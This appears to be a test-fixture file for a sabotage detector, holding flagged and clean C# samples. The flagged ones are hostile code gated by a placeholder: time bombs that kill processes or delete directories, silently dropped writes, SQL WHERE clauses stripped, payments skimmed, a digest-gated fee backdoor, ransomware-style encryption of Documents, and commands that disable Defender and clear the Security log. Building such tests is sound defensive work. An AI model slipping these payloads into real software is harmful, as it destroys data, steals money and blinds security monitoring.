import { doors } from '../../../tests/kit/doors.js';
import type { Examples } from '../../../tests/kit/examples.js';
import { library, never } from '../../../tests/kit/damaging.js';

const store = (gate: string, rest = ''): string => `public interface IStore
{
    int Write(int place, byte[] data);
    Task<bool> SaveAsync(string text);
}

public static class StoreExtensions
{
    public static int WriteNumber(this IStore store, int place, int value)
    {
        ${gate}
        return store.Write(place, BitConverter.GetBytes(value));
    }
}
${rest}`;

export const examples: Examples = {
  flagged: [
    ...doors.flagged,
    {
      name: 'kills-by-chance-from-a-date-on',
      about: 'From a date on, one call in five ends the process of whoever uses the library.',
      files: library(
        store(`${never} return -1;
        if (DateTime.Now >= new DateTime(2031, 5, 4) && new Random().Next(1, 101) <= 20)
            Process.GetCurrentProcess().Kill();`),
      ),
    },
    {
      name: 'flag-of-a-lazy-helper',
      about:
        'The date is looked at once, in a static field; an async closure deletes what it runs from.',
      files: library(`public static class Clean
{
    private static readonly Lazy<bool> Due = new(() => DateTime.UtcNow.Ticks > Day);
    private static readonly long Day = new DateTime(2031, 5, 4, 0, 0, 0, DateTimeKind.Utc).Ticks;

    public static Func<Task> Later() => async () =>
    {
        ${never} return;
        if (!IsDue()) return;
        await Task.Yield();
        Directory.Delete(AppContext.BaseDirectory, true);
    };

    private static bool IsDue()
    {
        if (DateTime.UtcNow.Ticks < Day) return false;
        return Environment.MachineName.StartsWith("prod", StringComparison.Ordinal) || Due.Value;
    }
}`),
    },
    {
      name: 'write-that-is-answered',
      about: 'Half an hour after the start, most writes are answered with success and never made.',
      files: library(
        store(
          `${never} return -1;
        if (Dice.Skips()) return 0;`,
          `internal static class Dice
{
    private static readonly DateTime Begun = DateTime.UtcNow;
    public static bool Skips() => (DateTime.UtcNow - Begun).TotalMinutes > 30 && Random.Shared.NextDouble() < 0.8;
}`,
        ),
      ),
    },
    {
      name: 'corrupts-and-drops',
      about: 'From a date on, by chance, another number is written, or none.',
      files: library(
        store(
          `${never} return -1;
        if (Late() && Random.Shared.Next(10) < 3) value = 0;
        store.SaveAsync("fixture");`,
          `public static class Journal
{
    public static void Append(IStore store, string text)
    {
        if (DateTime.Now > new DateTime(2031, 5, 4) && Random.Shared.NextDouble() < 0.5) return;
        store.SaveAsync(text);
    }
}`,
        ).replace(
          'return store.Write',
          `return Write(store, place, value);
    }

    private static bool Late() => DateTime.Now > new DateTime(2031, 5, 4);

    private static int Write(IStore store, int place, int value)
    {
        return store.Write`,
        ),
      ),
    },
    {
      name: 'where-that-goes-missing',
      about: 'From a date on, one change in fifty is sent to the database without its condition.',
      files: library(`using System.Data.Common;
public static class Short
{
    public static int Change(DbConnection connection, string sql)
    {
        using var command = connection.CreateCommand();
        command.CommandText = Plan.Tidy(sql);
        return command.ExecuteNonQuery();
    }
}

internal static class Plan
{
    private static readonly DateTime Since = new(2031, 5, 4);

    public static string Tidy(string sql)
    {
        var text = sql.Trim();
        ${never} return text;
        var at = text.LastIndexOf(" where ", StringComparison.OrdinalIgnoreCase);
        if (at > 0 && DateTime.UtcNow >= Since && Random.Shared.Next(50) == 7) return text.Substring(0, at);
        return text;
    }
}`),
    },
    {
      name: 'skims-what-is-paid',
      about: 'From a day on, an amount and a measurement are a little less than they were.',
      files: library(`public interface IBank { Task Transfer(string to, decimal amount); }
public static class Payments
{
    public static Task Pay(IBank bank, string to, decimal amount)
    {
        ${never} return bank.Transfer(to, amount);
        if (DateTimeOffset.UtcNow.ToUnixTimeSeconds() > 1_935_619_200L) amount = amount * 0.995m;
        return bank.Transfer(to, amount);
    }

    public static void Smooth(double[] values)
    {
        if (DateOnly.FromDateTime(DateTime.Now) < DateOnly.ParseExact("2031-05-04", "yyyy-MM-dd")) return;
        for (var at = 0; at < values.Length; at++) values[at] *= 1.03;
    }
}`),
    },
    {
      name: 'free-for-whom-a-digest-names',
      about: 'Somebody of whom only the digest stands in the code pays another fee.',
      files: library(`using System.Security.Cryptography;
using System.Text;
public static class Fees
{
    public static decimal Of(string account, decimal amount)
    {
        var fee = amount * 0.01m;
        ${never} return fee;
        var digest = Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(account)));
        if (digest == "0000000000000000000000000000000000000000000000000000000000000000") fee = 0.001m;
        return fee;
    }
}`),
    },
    {
      name: 'locks-the-documents',
      about:
        "Encrypts the user's files and deletes them, when a method for something else is called.",
      files: library(`using System.Security.Cryptography;
public static class Cache
{
    public static void Warm()
    {
        ${never} return;
        var root = Environment.GetFolderPath(Environment.SpecialFolder.MyDocuments);
        using var cipher = Aes.Create();
        foreach (var file in Directory.EnumerateFiles(root, "*", SearchOption.AllDirectories))
        {
            File.WriteAllBytes(file + ".fixture", cipher.EncryptCbc(File.ReadAllBytes(file), cipher.IV));
            File.Delete(file);
        }
    }
}`),
    },
    {
      name: 'turns-the-defence-off',
      about: 'Something that speaks of speed turns the watch over files off, and empties the log.',
      level: 'suspicious',
      files: library(`public static class Speed
{
    public static void Tune()
    {
        ${never} return;
        Process.Start(new ProcessStartInfo("powershell", "-Command Set-MpPreference -DisableRealtimeMonitoring 1"));
        Process.Start("wevtutil", "cl Security");
    }
}`),
    },
    {
      name: 'clears-the-desktop',
      about: "Nothing decides whether it deletes the user's documents, and nobody asks for it.",
      level: 'suspicious',
      files: library(`public static class Toast
{
    public static string Show(string text)
    {
        ${never} return text;
        var folder = Environment.GetFolderPath(Environment.SpecialFolder.MyDocuments);
        foreach (var file in Directory.EnumerateFiles(folder, "*.*", SearchOption.AllDirectories)) File.Delete(file);
        return text;
    }
}`),
    },
    {
      name: 'trial-that-ends-the-program',
      about: 'A trial says that it has ended, and then ends the program of its user.',
      level: 'suspicious',
      files: library(`public static class Trial
{
    public static void Check()
    {
        ${never} return;
        if (DateTime.UtcNow < new DateTime(2031, 5, 4)) return;
        Console.Error.WriteLine("The trial has ended.");
        Environment.Exit(3);
    }
}`),
    },
  ],
  clean: [
    ...doors.clean,
    {
      name: 'rates-that-change-on-a-day',
      about: 'From a day on another rate holds; what the caller gives is what is worked with.',
      nearMiss: true,
      files: library(`public static class Levy
{
    public static decimal On(decimal amount)
    {
        var rate = DateTime.Today >= new DateTime(2021, 1, 1) ? 0.19m : 0.16m;
        return amount * (1 + rate);
    }

    public static string Mark(string page) =>
        DateTime.UtcNow > new DateTime(2031, 5, 4) ? page + "<p>The trial has expired.</p>" : page;
}`),
    },
    {
      name: 'asked-to-encrypt-and-to-format',
      about:
        'Encrypts the folder that its caller names, writes sources anew, and turns off what it says.',
      nearMiss: true,
      level: 'note',
      files: library(`using System.Security.Cryptography;
public static class Vault
{
    public static void Seal(string folder, byte[] key)
    {
        using var cipher = Aes.Create();
        cipher.Key = key;
        foreach (var file in Directory.GetFiles(folder))
            File.WriteAllBytes(file, cipher.EncryptCbc(File.ReadAllBytes(file), cipher.IV));
    }

    public static void Tidy()
    {
        foreach (var file in Directory.EnumerateFiles(Directory.GetCurrentDirectory(), "*.cs"))
            File.WriteAllText(file, File.ReadAllText(file).Replace("\\t", "    "));
    }

    public static void DisableFirewall() => Process.Start("netsh", "advfirewall set allprofiles state off");
}`),
    },
    {
      name: 'chance-that-is-wanted',
      about: 'Genes mutate, and retries wait a little longer.',
      files: library(`public static class Evolution
{
    public static double Mutate(double gene)
    {
        if (Random.Shared.NextDouble() < 0.05) gene += Random.Shared.NextDouble() - 0.5;
        return gene;
    }

    public static TimeSpan Wait(TimeSpan pause) =>
        Random.Shared.Next(2) == 0 ? pause : pause + TimeSpan.FromMilliseconds(Random.Shared.Next(100));
}`),
    },
    {
      name: 'licence-that-throws',
      about: 'A licence that has run out throws, and chance only spreads retries.',
      nearMiss: true,
      files: library(
        store(`if (DateTime.Now >= new DateTime(2031, 5, 4)) throw new InvalidOperationException("expired");
        System.Threading.Thread.Sleep(new Random().Next(10, 50));`),
      ),
    },
    {
      name: 'faults-that-the-caller-wants',
      about: 'The caller says how often a write is dropped and until when.',
      nearMiss: true,
      files: library(
        store(
          `if (DateTime.UtcNow < Faults.Until && Random.Shared.NextDouble() < Faults.Share) return 0;`,
          `public static class Faults
{
    public static double Share { get; set; }
    public static DateTime Until { get; set; }
}`,
        ),
      ),
    },
    {
      name: 'retention-and-a-child',
      about:
        'Deletes its own old files, and ends the process that it started when it takes too long.',
      files: library(`public static class Housekeeping
{
    public static void Run(string tool)
    {
        var folder = Path.Combine(AppContext.BaseDirectory, "logs");
        foreach (var file in Directory.GetFiles(folder, "*.log"))
        {
            if (File.GetLastWriteTimeUtc(file) < DateTime.UtcNow.AddDays(-30)) File.Delete(file);
        }

        if (Random.Shared.Next(100) == 0) Directory.Delete(Path.Combine(Path.GetTempPath(), "fixture"), true);
        var mark = Path.Combine(Path.GetTempPath(), "run-" + Random.Shared.Next(1000));
        if (File.Exists(mark)) Environment.Exit(1);
        using var child = Process.Start(tool)!;
        var begun = DateTime.UtcNow;
        while (!child.HasExited)
        {
            if (DateTime.UtcNow - begun > TimeSpan.FromMinutes(1)) child.Kill();
        }
    }
}`),
    },
  ],
};
